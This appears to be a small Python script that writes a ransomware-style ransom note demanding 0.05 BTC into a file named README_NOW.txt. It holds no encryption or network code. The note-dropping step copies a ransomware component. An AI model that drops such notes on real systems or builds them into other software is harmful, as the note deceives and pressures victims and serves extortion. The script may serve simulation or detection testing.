from pathlib import Path

NOTE = """
Your files have been encrypted.
Send 0.05 BTC to the address below to recover them.
"""

Path("README_NOW.txt").write_text(NOTE)
